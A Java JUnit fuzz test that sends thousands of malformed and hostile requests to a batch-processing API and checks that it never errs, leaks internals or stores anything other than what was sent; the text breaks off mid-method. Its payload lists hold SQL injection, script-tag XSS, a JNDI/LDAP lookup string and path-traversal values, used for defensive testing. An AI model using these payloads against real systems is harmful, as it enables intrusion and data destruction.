package io.batchline.api.submission;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.batchline.api.RawHttp;
import io.batchline.api.RealServicesTest;
import io.batchline.model.messaging.Topology;
import io.batchline.model.operations.Operations;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Thousands of malformed and hostile requests, generated from a fixed seed (override with
 * {@code -Dfuzz.seed=}, more cases with {@code -Dfuzz.cases=} and {@code -Dfuzz.requestCases=};
 * every failure names the seed).
 * <p>
 * Bodies: wrong types, deep nesting, huge strings, NUL bytes and unpaired surrogates, invalid
 * UTF-8, truncation, huge numbers, names given twice, SQL and script payloads. Never a 5xx;
 * every rejection is problem+json and leaves the database unchanged; every accepted batch is
 * read back from the database and equals what was sent (each item's payload as an exact JSON
 * value, operation, creator, metadata, options); the broker gets exactly one message per
 * accepted item.
 * <p>
 * Everything else a request carries: every query parameter, path variable and header of every
 * endpoint gets invalid and overlong UTF-8 escapes, NUL, huge and overflowing values, wrong
 * types, near-UUIDs, forged cursors, unknown enum values, duplicates. Never a 5xx; a refusal
 * is problem+json, a success JSON; no answer shows internals. Sent over a raw socket, since
 * no HTTP client would send most of it.
 */
class HostileInputIntegrationTests extends RealServicesTest {

    private static final long SEED = Long.getLong("fuzz.seed", 20_261_124L);
    private static final int CASES = Integer.getInteger("fuzz.cases", 1500);
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String[] NASTY = {
            "'; DROP TABLE batches; --", "\" OR 1=1 --", "<script>alert(1)</script>", "${jndi:ldap://x/a}",
            "\u0000", "a\u0000b", "\ud800", "\udc00x", "\u202Egnp.exe", "\u200B\u200D\uFEFF", "\uD83D\uDE00",
            "../../etc/passwd", "%00", "\\", "\\u0000", "null", "", " ", "\t\n\r", "Ω≈ç√∫", "𝕏".repeat(50)};

    /** One submission: where it goes, as what, and its bytes. */
    private record Case(String path, String contentType, byte[] body) {

        Case(String contentType, byte[] body) {
            this("/api/batches", contentType, body);
        }
    }

    @Test
    void hostileSubmissionsNeverCauseAServerErrorAndRejectionsChangeNothing() {
        await().atMost(Duration.ofSeconds(30))
                .until(() -> count("SELECT count(*) FROM batches WHERE dispatched < total AND status IN ('pending', 'processing')") == 0);
        long queuedBefore = queued();
        long acceptedItems = 0;
        int accepted = 0;
        Random random = new Random(SEED);
        for (int i = 0; i < CASES; i++) {
            Case c = next(random);
            int batchesBefore = count("SELECT count(*) FROM batches");
            int itemsBefore = count("SELECT count(*) FROM batch_items");
            Answer answer = postBytes(c.path(), c.contentType(), c.body());
            String label = "case " + i + " (seed " + SEED + "): POST " + c.path() + " " + c.contentType() + " " + preview(c.body());
            assertThat(answer.status()).as(label).isLessThan(500);
            if (answer.status() >= 400) {
                assertThat(answer.contentType()).as(label).startsWith("application/problem+json");
                assertThat(count("SELECT count(*) FROM batches")).as(label).isEqualTo(batchesBefore);
                assertThat(count("SELECT count(*) FROM batch_items")).as(label).isEqualTo(itemsBefore);
            } else {
                assertThat(answer.status()).as(label).isEqualTo(c.path().endsWith("/batch-update-price") ? 201 : 202);
                accepted++;
                acceptedItems += answer.body().get("totalItems").asInt();
                assertStoredAsSubmitted(id(answer), c, label);
            }
        }
        assertThat(accepted).as("accepted cases (seed %d): too few to say anything about what is stored", SEED)
                .isGreaterThan(CASES / 20);
        long expected = queuedBefore + acceptedItems;
        await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> assertThat(queued()).isEqualTo(expected));
    }

    /**
     * Exact reading of what was sent, independent of the server's reader: decimals as decimals,
     * and a body whose meaning is ambiguous (the same name twice in an object) cannot be read.
     */
    private static final tools.jackson.databind.json.JsonMapper EXACT = tools.jackson.databind.json.JsonMapper.builder()
            .enable(tools.jackson.databind.DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS)
            .enable(tools.jackson.core.StreamReadFeature.STRICT_DUPLICATE_DETECTION)
            .build();

    /** The batch as the client sent it: header fields and each item's value, in order. */
    private record Submitted(String operation, String creator, JsonNode options, JsonNode metadata, List<JsonNode> items) {
    }

    private Submitted submitted(Case c, String label) {
        try {
            if (c.path().endsWith("/batch-update-price")) {
                JsonNode body = EXACT.readTree(c.body());
                List<JsonNode> items = new ArrayList<>();
                for (JsonNode contentId : body.get("contentIds")) {
                    ObjectNode item = NODES.objectNode();
                    item.set("contentId", contentId);
                    item.set("newPrice", body.get("newPrice"));
                    items.add(item);
                }
                return new Submitted("content.update-price", body.get("creator").asString(), null, null, items);
            }
            JsonNode header;
            List<JsonNode> items = new ArrayList<>();
            if (c.contentType().startsWith("application/x-ndjson")) {
                try (tools.jackson.databind.MappingIterator<JsonNode> values = EXACT.readerFor(JsonNode.class).readValues(c.body())) {
                    header = values.next();
                    values.forEachRemaining(items::add);
                }
            } else {
                header = EXACT.readTree(c.body());
                header.get("items").forEach(items::add);
            }
            String operation = header.get("operation").asString();
            if (operation.equals(Operations.USER_CREATE.name())) {
                items = items.stream().map(this::withPasswordDigested).toList();
            }
            return new Submitted(operation, header.path("creator").asString("admin"),
                    header.path("options").isObject() ? header.get("options") : null,
                    header.path("metadata").isObject() ? header.get("metadata") : null, items);
        } catch (RuntimeException e) {
            throw new AssertionError(label + ": accepted, but the body does not unambiguously say what to store: " + e, e);
        }
    }

    /**
     * Every item's payload read back from batch_items equals the value submitted (numbers by
     * value, a user.create password as the HMAC that replaces it), in order and nothing more;
     * and the batch row holds the operation, creator, metadata and options that were sent.
     */
    private void assertStoredAsSubmitted(UUID batch, Case c, String label) {
        Submitted sent = submitted(c, label);
        List<JsonNode> stored = jdbc.sql("SELECT payload::text FROM batch_items WHERE batch_id = ? ORDER BY seq")
                .param(batch).query(String.class).list().stream().map(EXACT::readTree).toList();
        assertThat(stored).as(label).hasSameSizeAs(sent.items());
        for (int k = 0; k < stored.size(); k++) {
            assertSameJson(stored.get(k), sent.items().get(k), label + " item " + k);
        }
        Map<String, Object> row = jdbc.sql("SELECT operation, creator, total, options::text AS options, metadata::text AS metadata"
                + " FROM batches WHERE id = ?").param(batch).query().singleRow();
        assertThat(row.get("operation")).as(label).isEqualTo(sent.operation());
        assertThat(row.get("creator")).as(label).isEqualTo(sent.creator());
        assertThat(((Number) row.get("total")).intValue()).as(label).isEqualTo(sent.items().size());
        if (sent.metadata() == null) {
            assertThat(row.get("metadata")).as(label).isNull();
        } else {
            assertSameJson(EXACT.readTree((String) row.get("metadata")), sent.metadata(), label + " metadata");
        }
        if (sent.options() != null) {
            JsonNode options = EXACT.readTree((String) row.get("options"));
            for (String name : sent.options().propertyNames()) {
                if (!sent.options().get(name).isNull()) {
                    assertSameJson(options.get(name), sent.options().get(name), label + " options." + name);
                }
            }
        }
    }

    private static final String PEPPER = "test-pepper-0123456789abcdef";

    /** A user.create item as it must be stored: the password replaced by its peppered HMAC, computed here independently. */
    private JsonNode withPasswordDigested(JsonNode item) {
        if (!item.path("password").isString()) {
            return item;
        }
        try {
            javax.crypto.Mac mac = javax.crypto.Mac.getInstance("HmacSHA256");
            mac.init(new javax.crypto.spec.SecretKeySpec(PEPPER.getBytes(StandardCharsets.UTF_8), "HmacSHA256"));
            String digest = "hmac-sha256:" + java.util.Base64.getUrlEncoder().withoutPadding()
                    .encodeToString(mac.doFinal(item.get("password").asString().getBytes(StandardCharsets.UTF_8)));
            ObjectNode copy = ((ObjectNode) item).deepCopy();
            copy.put("password", digest);
            return copy;
        } catch (java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Exact JSON value equality: same kind, same names, same order of array elements, equal texts, numbers equal by value. */
    private static void assertSameJson(JsonNode stored, JsonNode expected, String label) {
        if (expected.isNumber()) {
            assertThat(stored.isNumber()).as(label + ": %s is not a number like %s", stored, expected).isTrue();
            assertThat(stored.decimalValue()).as(label).isEqualByComparingTo(expected.decimalValue());
        } else if (expected.isObject()) {
            assertThat(stored.isObject()).as(label + ": %s is not an object", stored).isTrue();
            assertThat(stored.propertyNames()).as(label).containsExactlyInAnyOrderElementsOf(expected.propertyNames());
            for (String name : expected.propertyNames()) {
                assertSameJson(stored.get(name), expected.get(name), label + "." + name);
            }
        } else if (expected.isArray()) {
            assertThat(stored.isArray()).as(label + ": %s is not an array", stored).isTrue();
            assertThat(stored.size()).as(label).isEqualTo(expected.size());
            for (int i = 0; i < expected.size(); i++) {
                assertSameJson(stored.get(i), expected.get(i), label + "[" + i + "]");
            }
        } else {
            assertThat(stored).as(label).isEqualTo(expected);
        }
    }

    // ---------------------------------------------------------------------------------------------
    // Hostile query parameters, path variables and headers on every endpoint
    // ---------------------------------------------------------------------------------------------

    private static final int REQUEST_CASES = Integer.getInteger("fuzz.requestCases", 12);

    /**
     * Hostile values as they go on the wire (already percent-encoded where they are, raw where
     * they are not): invalid and overlong UTF-8, NUL, lone or malformed escapes, overflowing
     * and negative numbers, wrong types, near-UUIDs, forged cursors, unknown enum values, huge values.
     */
    private static final List<String> WIRE_VALUES = List.of(
            "%ff", "%FF%FE", "%c3%28", "%c0%af", "%c0%80", "%e0%80%af", "%f0%80%80%af", "%ed%a0%80", "%ed%b0%80x",
            "%f4%90%80%80", "%f8%88%80%80%80", "%80", "%bf%bf", "%00", "a%00b", "%", "%%", "%%25", "%g1", "%2", "%2g",
            "%u0041", "%25ff", "%0a", "%0d%0a", "%09", "%7f", "%01", "%e2%80%ae", "%ef%bb%bf", "%f0%9f%98%80", "%c4%b1",
            "-1", "0", "-0", "00001", "+5", "%205", "5%20", "%2B5", "1e3", "0x10", "1.5", "1,2", "NaN", "Infinity",
            "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
            "-9223372036854775809", "99999999999999999999999999999999", "%d9%a5", "true", "null", "undefined", "[]",
            "{}", "%5B%5D", "%7B%7D", "'%20OR%201=1--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e", "..", ".", "%2f", "%5c", "a;b=c", "%3B", "%23", "%3F", "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff", "1-1-1-1-1", "0-0-0-0-0000000000000000000",
            "zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz", "00000000-0000-0000-0000-00000000000g",
            "00000000000000000000000000000000", "{00000000-0000-0000-0000-000000000000}", "pending", "PENDING",
            "Completed", "completed%00", "succeeded%20", "timed-out", "timed_out", "unknown", "fa%c4%b1led",
            "%e1%b4%98ending", cursor("s:-5"), cursor("s:2147483648"), cursor("s:"), cursor("s:1:2"), cursor("x:1"),
            cursor("b:1:2"), cursor("b:-1:00000000-0000-0000-0000-000000000000"),
            cursor("b:9223372036854775807:00000000-0000-0000-0000-000000000000"),
            cursor("b:-9223372036854775808:00000000-0000-0000-0000-000000000000"),
            cursor("b:253402300800000000:00000000-0000-0000-0000-000000000000"),
            cursor("b:-62135596800000001:00000000-0000-0000-0000-000000000000"),
            cursor("b:1:1-1-1-1-1"), cursor("b:1:" + "0".repeat(5000)), cursor("\u0000"), cursor("s:\u00005"),
            "====", "!!!!", "a=b", "%3D", "AAAA", "AA", "A", "-_-_", "+/+/", "", "+", "%20", "%2B", " ",
            "a".repeat(6_000), "%ff".repeat(2_000), "9".repeat(5_000), "b".repeat(20_000));

    /** Hostile header values (each char one byte on the wire; never CR or LF, which would end the header). */
    private static final List<String> HEADER_VALUES = List.of(
            "", " ", "\t", "\u0000", "a\u0000b", "\u00ff\u00fe", "\u00c3\u0028", "\u007f", "\u0001\u0002", "%ff", "%00",
            "Bearer", "Bearer ", "Bearer\t" + ADMIN_KEY, "bearer " + ADMIN_KEY, "BEARER " + ADMIN_KEY, "Bearer  " + ADMIN_KEY,
            "Bearer " + ADMIN_KEY + "\u0000", "Bearer " + ADMIN_KEY + " " + ADMIN_KEY, "Bearer " + ADMIN_KEY + "," + ADMIN_KEY,
            "Bearer %ff", "Bearer \u00ff\u00fe", "Bearer " + "x".repeat(300), "Bearer " + "x".repeat(7_000),
            "Bearer " + ADMIN_KEY.toUpperCase(java.util.Locale.ROOT), "Basic YWRtaW46YWRtaW4=", "Token " + ADMIN_KEY,
            "*/*", "application/json", "application/xml", "text/html", "text/plain", "image/png", "application/*",
            "application/json;q=abc", "*/*;q=-1", "*/*;q=0", "application/json;q=0", "application/problem+json",
            "application/x-ndjson", "garbage", ";;;", "/", "application/", "/json", "*/json", "a/b/c",
            "application/json; charset=ebcdic", "application/json; charset=\"", "application/json; charset=utf-8",
            "application/json; charset=utf-16", "application/json; boundary=\u0000", "multipart/form-data",
            "multipart/form-data; boundary=", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
            "text/html, application/xml;q=0.9, */*;q=0.8", "application/json, application/json, " + "a/b, ".repeat(500),
            "x".repeat(201), "x".repeat(200), "k\u00e9y", "'; DROP TABLE idempotency_keys; --", "0", "-1",
            "\u00c0\u00af", "${jndi:ldap://x/a}");

    /** One endpoint of the API: its path (with {variables}), its query parameters and a legal body, if any. */
    private record Endpoint(String method, String template, List<String> params, String contentType, String body) {

        List<String> variables() {
            return java.util.regex.Pattern.compile("\\{(\\w+)}").matcher(template).results().map(m -> m.group(1)).toList();
        }

        @Override
        public String toString() {
            return method + " " + template;
        }
    }

    private static final String NOOP_BATCH = "{\"operation\":\"noop\",\"items\":[{\"key\":\"fuzz\"}]}";

    /** Every endpoint under api-service/src/main/java (submission, query, control, security/AdminController). */
    private static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("POST", "/api/batches", List.of(), "application/json", NOOP_BATCH),
            new Endpoint("POST", "/api/batches", List.of(), "application/x-ndjson", "{\"operation\":\"noop\"}\n{\"key\":\"fuzz\"}\n"),
            new Endpoint("POST", "/api/batches/batch-update-price", List.of(), "application/json",
                    "{\"creator\":\"fuzz\",\"contentIds\":[\"c1\"],\"newPrice\":1.5}"),
            new Endpoint("GET", "/api/batches/{batchId}", List.of(), null, null),
            new Endpoint("GET", "/api/batches/{batchId}/items", List.of("status", "limit", "cursor", "format"), null, null),
            new Endpoint("GET", "/api/batches/{batchId}/diagnosis", List.of(), null, null),
            new Endpoint("GET", "/api/batches", List.of("creator", "status", "limit", "cursor", "operation", "from", "to", "q"), null, null),
            new Endpoint("GET", "/api/batches/creator/{creator}", List.of("limit", "cursor"), null, null),
            new Endpoint("GET", "/api/batches/stats", List.of("since"), null, null),
            new Endpoint("GET", "/api/batches/health", List.of(), null, null),
            new Endpoint("POST", "/api/batches/{batchId}/cancel", List.of(), null, null),
            new Endpoint("POST", "/api/batches/{batchId}/retry", List.of(), null, null),
            new Endpoint("POST", "/api/admin/keys", List.of(), "application/json", "{\"tenant\":\"fuzz-tenant\",\"role\":\"submitter\"}"),
            new Endpoint("GET", "/api/admin/keys", List.of("tenant"), null, null),
            new Endpoint("DELETE", "/api/admin/keys/{keyId}", List.of(), null, null),
            new Endpoint("GET", "/api/admin/tenants/{tenant}", List.of(), null, null),
            new Endpoint("GET", "/api/admin/audit", List.of("tenant", "before", "limit"), null, null),
            new Endpoint("POST", "/batch/users/create", List.of(), "application/json",
                    "{\"users\":[{\"email\":\"fuzz@example.com\",\"name\":\"Fuzz\",\"password\":\"fuzz-password\"}]}"),
            new Endpoint("PATCH", "/batch/users/update", List.of(), "application/json",
                    "{\"updates\":[{\"id\":\"" + UUID.randomUUID() + "\",\"data\":{\"name\":\"Fuzz\"}}]}"),
            new Endpoint("PATCH", "/batch/users/last-login", List.of(), "application/json", "{\"userIds\":[\"" + UUID.randomUUID() + "\"]}"),
            new Endpoint("DELETE", "/batch/users/soft-delete", List.of(), "application/json", "{\"userIds\":[\"" + UUID.randomUUID() + "\"]}"),
            new Endpoint("GET", "/batch/users/lookup", List.of("ids", "chunkSize"), null, null),

            new Endpoint("DELETE", "/api/admin/batches/{batchId}", List.of(), null, null),
            // event streams: RawHttp reads their head only (they stay open)
            new Endpoint("GET", "/api/batches/{batchId}/events", List.of(), null, null),
            new Endpoint("GET", "/api/batches/events", List.of(), null, null),
            new Endpoint("GET", "/api/workers", List.of(), null, null));

    private static final List<String> HEADERS = List.of("Authorization", "Accept", "Content-Type", "Idempotency-Key", "Last-Event-ID");

    /**
     * Every query parameter, path variable and header of every endpoint gets every hostile
     * value above plus seeded random ones (override with {@code -Dfuzz.seed=}; more with
     * {@code -Dfuzz.requestCases=}), some as duplicated parameters or headers. Never a 5xx;
     * a refusal is a 4xx problem+json whose status matches, a success is JSON (or 204); no
     * answer shows a stack trace or an exception's name.
     */
    @Test
    void hostileParametersPathVariablesAndHeadersNeverCauseAServerError() {
        Map<String, String> legal = Map.of(
                "batchId", submitLookups(3, "{}").toString(),
                "creator", "admin",
                "tenant", "admin",
                // never an existing key: a fuzzed DELETE must not revoke the key the test runs with
                "keyId", UUID.randomUUID().toString(),
                "status", "pending",
                "limit", "2",
                "cursor", cursor("s:0"),
                "before", "9000000000",
                "ids", UUID.randomUUID() + "," + UUID.randomUUID(),
                "chunkSize", "10");
        Random random = new Random(SEED ^ 0x5EED);
        Map<String, List<String>> failures = new java.util.LinkedHashMap<>();
        int requests = 0;
        for (Endpoint endpoint : ENDPOINTS) {
            for (String variable : endpoint.variables()) {
                for (String value : valuesFor(random, legal.get(variable))) {
                    String path = endpoint.template();
                    for (String v : endpoint.variables()) {
                        path = path.replace("{" + v + "}", v.equals(variable) ? value : legal.get(v));
                    }
                    requests++;
                    check(endpoint, "path variable " + variable, path, defaultHeaders(endpoint), failures);
                }
            }
            List<String> params = new ArrayList<>(endpoint.params());
            params.add("unknown");
            for (String param : params) {
                List<String> values = valuesFor(random, legal.getOrDefault(param, "x"));
                for (int v = 0; v < values.size(); v++) {
                    String value = values.get(v);
                    // every fixed value alone at least once; the random ones also duplicated, or next to the legal one
                    String query = v < WIRE_VALUES.size() ? param + "=" + value : switch (random.nextInt(5)) {
                        case 0 -> param + "=" + legal.getOrDefault(param, "x") + "&" + param + "=" + value;
                        case 1 -> param + "=" + value + "&" + param + "=" + legal.getOrDefault(param, "x");
                        case 2 -> param + "=" + value + "&" + param + "=" + value;
                        case 3 -> param + "=" + value + "&" + param;
                        default -> param + "=" + value;
                    };
                    requests++;
                    check(endpoint, "parameter " + param, legalPath(endpoint, legal) + "?" + query, defaultHeaders(endpoint), failures);
                }
            }
            for (String name : List.of("%ff", "%00", "a%00b", "%", "=", "&&", "%c0%af=1", "limit[]", "limit.x", "%ff%fe=%ff")) {
                requests++;
                check(endpoint, "parameter name", legalPath(endpoint, legal) + "?" + name, defaultHeaders(endpoint), failures);
            }
            for (String header : HEADERS) {
                List<String> values = new ArrayList<>(HEADER_VALUES);
                for (int i = 0; i < REQUEST_CASES; i++) {
                    values.add(randomHeaderValue(random));
                }
                for (String value : values) {
                    List<RawHttp.Header> headers = new ArrayList<>(defaultHeaders(endpoint));
                    if (random.nextInt(4) != 0) {
                        headers.removeIf(h -> h.name().equalsIgnoreCase(header));
                    }
                    headers.add(new RawHttp.Header(header, value));
                    requests++;
                    check(endpoint, "header " + header, legalPath(endpoint, legal), headers, failures);
                }
            }
        }
        int broken = failures.values().stream().mapToInt(List::size).sum();
        List<String> report = failures.entrySet().stream()
                .map(e -> e.getValue().size() + "x " + e.getKey() + ", e.g. " + e.getValue().getFirst()).toList();
        assertThat(report).as("%d of %d requests broke the rules (seed %d), by kind", broken, requests, SEED).isEmpty();
    }

    private List<String> valuesFor(Random random, String legal) {
        List<String> values = new ArrayList<>(WIRE_VALUES);
        values.add(legal);
        values.add(legal + "%00");
        values.add(legal + "%ff");
        values.add("%ff" + legal);
        for (int i = 0; i < REQUEST_CASES; i++) {
            values.add(randomWireValue(random, legal));
        }
        return values;
    }

    private static String legalPath(Endpoint endpoint, Map<String, String> legal) {
        String path = endpoint.template();
        for (String v : endpoint.variables()) {
            path = path.replace("{" + v + "}", legal.get(v));
        }
        return path;
    }

    private static List<RawHttp.Header> defaultHeaders(Endpoint endpoint) {
        List<RawHttp.Header> headers = new ArrayList<>();
        headers.add(new RawHttp.Header("Authorization", "Bearer " + ADMIN_KEY));
        if (endpoint.contentType() != null) {
            headers.add(new RawHttp.Header("Content-Type", endpoint.contentType()));
        }
        return headers;
    }

    private void check(Endpoint endpoint, String slot, String target, List<RawHttp.Header> headers,
                       Map<String, List<String>> failures) {
        byte[] body = endpoint.body() == null ? (endpoint.method().equals("POST") ? new byte[0] : null)
                : endpoint.body().getBytes(StandardCharsets.UTF_8);
        RawHttp.Response response = RawHttp.send(port, endpoint.method(), target, headers, body);
        String broken = brokenRule(response);
        if (broken != null) {
            String sent = headers.stream().filter(h -> !h.value().equals("Bearer " + ADMIN_KEY) || !h.name().equals("Authorization"))
                    .map(h -> h.name() + ": " + abbreviate(h.value())).toList().toString();
            failures.computeIfAbsent(endpoint + " " + slot + " -> " + response.status() + " " + response.header("content-type")
                    + " (" + broken + ")", k -> new ArrayList<>())
                    .add(endpoint.method() + " " + abbreviate(target) + " " + sent + " answered " + abbreviate(response.text()));
        }
    }

    /** Null if the answer keeps the rules, else which one it broke. */
    private String brokenRule(RawHttp.Response response) {
        int status = response.status();
        String text = response.text();
        for (String leak : List.of("Exception", "\tat ", ".java:", "org.springframework", "org.apache", "org.postgresql",
                "io.batchline", "\"trace\"")) {
            if (text.contains(leak)) {
                return "shows internals (" + leak.trim() + ")";
            }
        }
        if (status >= 500) {
            return "server error";
        }
        if (status >= 400) {
            if (!response.header("content-type").startsWith("application/problem+json")) {
                return "a refusal that is not problem+json";
            }
            JsonNode problem;
            try {
                problem = json.readTree(text);
            } catch (RuntimeException e) {
                return "problem+json that is not JSON";
            }
            if (problem == null || !problem.isObject() || !problem.path("status").isNumber() || problem.path("status").asInt() != status
                    || problem.path("title").asString("").isBlank()) {
                return "problem without a matching status and a title";
            }
            return null;
        }
        if (status == 204) {
            return null;
        }
        if (status < 200 || status >= 300) {
            return "neither a success nor a refusal";
        }
        if (response.header("content-type").startsWith("text/event-stream")) {
            return null; // a progress stream: only its head was read
        }
        // the items endpoint's exports: NDJSON of one JSON item per line, or CSV under its header row
        if (response.header("content-type").startsWith("application/x-ndjson")) {
            try {
                text.lines().forEach(json::readTree);
                return null;
            } catch (RuntimeException e) {
                return "an NDJSON line that is not JSON";
            }
        }
        if (response.header("content-type").startsWith("text/csv")) {
            return text.startsWith("seq,key,status,attempts,") ? null : "CSV without its header row";
        }
        if (!response.header("content-type").startsWith("application/json")) {
            return "a success that is not JSON";
        }
        try {
            json.readTree(text);
        } catch (RuntimeException e) {
            return "a success whose body is not JSON";
        }
        return null;
    }

    private static String cursor(String raw) {
        return java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(raw.getBytes(StandardCharsets.UTF_8));
    }

    private static final String HEX = "0123456789abcdefABCDEF";

    /** One to four pieces: a hostile value, the legal one, a random escape, an encoded code point, plain text, digits. */
    private static String randomWireValue(Random random, String legal) {
        StringBuilder value = new StringBuilder();
        for (int i = 0, pieces = 1 + random.nextInt(4); i < pieces; i++) {
            switch (random.nextInt(8)) {
                case 0 -> value.append(WIRE_VALUES.get(random.nextInt(WIRE_VALUES.size())));
                case 1 -> value.append(legal);
                case 2 -> value.append('%').append(HEX.charAt(random.nextInt(HEX.length()))).append(HEX.charAt(random.nextInt(HEX.length())));
                case 3 -> {
                    int codePoint = switch (random.nextInt(4)) {
                        case 0 -> random.nextInt(0x80);
                        case 1 -> 0x80 + random.nextInt(0x800 - 0x80);
                        case 2 -> 0x800 + random.nextInt(0x10000 - 0x800);
                        default -> 0x10000 + random.nextInt(0x110000 - 0x10000);
                    };
                    // surrogate code points are encoded as the three bytes UTF-8 forbids for them
                    byte[] bytes = codePoint >= 0xD800 && codePoint <= 0xDFFF
                            ? new byte[] {(byte) (0xE0 | codePoint >> 12), (byte) (0x80 | (codePoint >> 6 & 0x3F)), (byte) (0x80 | (codePoint & 0x3F))}
                            : new String(Character.toChars(codePoint)).getBytes(StandardCharsets.UTF_8);
                    for (byte b : bytes) {
                        value.append('%').append(String.format("%02x", b & 0xFF));
                    }
                }
                case 4 -> {
                    String unreserved = "abcXYZ019-._~!$'()*,;:@";
                    for (int k = 0, n = 1 + random.nextInt(12); k < n; k++) {
                        value.append(unreserved.charAt(random.nextInt(unreserved.length())));
                    }
                }
                case 5 -> value.append(random.nextBoolean() ? Long.toString(random.nextLong()) : Integer.toString(random.nextInt()));
                case 6 -> value.append('%').append("gz%-_.~".charAt(random.nextInt(7)));
                default -> value.append(cursor(random.nextBoolean() ? "s:" + random.nextLong()
                        : "b:" + random.nextLong() + ":" + new UUID(random.nextLong(), random.nextLong())));
            }
        }
        return value.toString();
    }

    private static String randomHeaderValue(Random random) {
        StringBuilder value = new StringBuilder();
        for (int i = 0, pieces = 1 + random.nextInt(3); i < pieces; i++) {
            switch (random.nextInt(4)) {
                case 0 -> value.append(HEADER_VALUES.get(random.nextInt(HEADER_VALUES.size())));
                case 1 -> value.append(WIRE_VALUES.get(random.nextInt(WIRE_VALUES.size())));
                case 2 -> {
                    for (int k = 0, n = 1 + random.nextInt(20); k < n; k++) {
                        char c;
                        do {
                            c = (char) random.nextInt(0x100);
                        } while (c == '\r' || c == '\n');
                        value.append(c);
                    }
                }
                default -> value.append(NASTY[random.nextInt(NASTY.length)].chars()
                        .filter(c -> c < 0x100 && c != '\r' && c != '\n')
                        .collect(StringBuilder::new, StringBuilder::appendCodePoint, StringBuilder::append));
            }
        }
        return value.toString();
    }

    private static String abbreviate(String text) {
        return text.length() <= 120 ? text : text.substring(0, 120) + "... (" + text.length() + " chars)";
    }

    private long queued() {
        return Operations.names().stream().mapToLong(op -> messagesIn(Topology.itemQueue(op))).sum();
    }

    private Case next(Random random) {
        return switch (random.nextInt(15)) {
            case 0 -> json(randomValue(random, 4));
            case 1 -> json(envelope(random, randomOperation(random), randomItems(random)));
            case 2 -> raw("application/json", "{\"operation\":\"noop\",\"items\":[" + deep(random.nextInt(3000) + 50) + "]}");
            case 3 -> validNoop(random, "x".repeat(random.nextInt(80_000)));
            case 4 -> invalidUtf8(random);
            case 5 -> truncated(random);
            case 6 -> validNoop(random, NASTY[random.nextInt(NASTY.length)]);
            case 7 -> json(envelope(random, "content.update-price", List.of(priceItem(random))));
            case 8 -> hugeNumberCase(random);
            case 9 -> raw("application/json", "{\"operation\":\"noop\",\"operation\":\"rm\",\"items\":[{\"a\":1,\"a\":2}]}");
            case 10 -> duplicateNames(random);
            case 11 -> userCreate(random);
            case 12 -> priceUpdateEndpoint(random);
            default -> ndjson(random);
        };
    }

    private Case validNoop(Random random, String text) {
        List<JsonNode> items = new ArrayList<>();
        for (int i = 0; i < 1 + random.nextInt(4); i++) {
            ObjectNode item = NODES.objectNode();
            item.put("key", text);
            item.put(random.nextBoolean() ? "note" : text.isEmpty() ? "e" : "f" + random.nextInt(9), text);
            items.add(item);
        }
        return json(envelope(random, "noop", items));
    }

    /** The same name twice in an item, in the metadata or in the header: what would be stored is anyone's guess. */
    private Case duplicateNames(Random random) {
        return raw("application/json", switch (random.nextInt(4)) {
            case 0 -> "{\"operation\":\"noop\",\"items\":[{\"key\":\"a\",\"key\":\"b\"}]}";
            case 1 -> "{\"operation\":\"noop\",\"items\":[{\"x\":{\"n\":1,\"n\":2}}]}";
            case 2 -> "{\"operation\":\"noop\",\"metadata\":{\"m\":1,\"m\":2},\"items\":[{}]}";
            default -> "{\"operation\":\"noop\",\"creator\":\"a\",\"creator\":\"b\",\"items\":[{}]}";
        });
    }

    /** user.create items, mostly valid: the password must be stored as its HMAC, everything else as sent. */
    private Case userCreate(Random random) {
        List<JsonNode> items = new ArrayList<>();
        for (int i = 0; i < 1 + random.nextInt(3); i++) {
            ObjectNode item = NODES.objectNode();
            item.put("email", "u" + random.nextInt(1_000_000) + "@x.io");
            item.put("name", random.nextBoolean() ? "Name " + i : NASTY[random.nextInt(NASTY.length)]);
            item.put("password", random.nextBoolean() ? "pw-" + random.nextLong() : NASTY[random.nextInt(NASTY.length)] + "12345678");
            items.add(item);
        }
        return json(envelope(random, Operations.USER_CREATE.name(), items));
    }

    /** The seeds' price-update endpoint: a creator, content ids and one price, each sometimes hostile. */
    private Case priceUpdateEndpoint(Random random) {
        ObjectNode body = NODES.objectNode();
        body.set("creator", random.nextInt(3) == 0 ? randomValue(random, 1) : NODES.stringNode(random.nextBoolean()
                ? "seed-" + random.nextInt(100) : NASTY[random.nextInt(NASTY.length)]));
        ArrayNode ids = body.putArray("contentIds");
        for (int i = 0; i < random.nextInt(5); i++) {
            ids.add(random.nextInt(4) == 0 ? randomValue(random, 1) : NODES.stringNode(random.nextBoolean()
                    ? "c-" + random.nextInt(1000) : NASTY[random.nextInt(NASTY.length)]));
        }
        body.set("newPrice", switch (random.nextInt(4)) {
            case 0 -> randomValue(random, 1);
            case 1 -> NODES.numberNode(new java.math.BigDecimal(hugeNumber(random).replace("NaN", "1")));
            default -> NODES.numberNode(java.math.BigDecimal.valueOf(random.nextInt(1_000_000), random.nextInt(8)));
        });
        return new Case("/api/batches/batch-update-price", "application/json", bytes(body));
    }

    private ObjectNode envelope(Random random, Object operation, List<JsonNode> items) {
        ObjectNode body = NODES.objectNode();
        if (operation instanceof String s) {
            body.put("operation", s);
        } else if (operation instanceof JsonNode n) {
            body.set("operation", n);
        }
        if (random.nextInt(4) == 0) {
            body.set("creator", random.nextBoolean() ? NODES.stringNode(NASTY[random.nextInt(NASTY.length)]) : randomValue(random, 1));
        }
        if (random.nextInt(5) == 0) {
            body.set("options", randomValue(random, 2));
        }
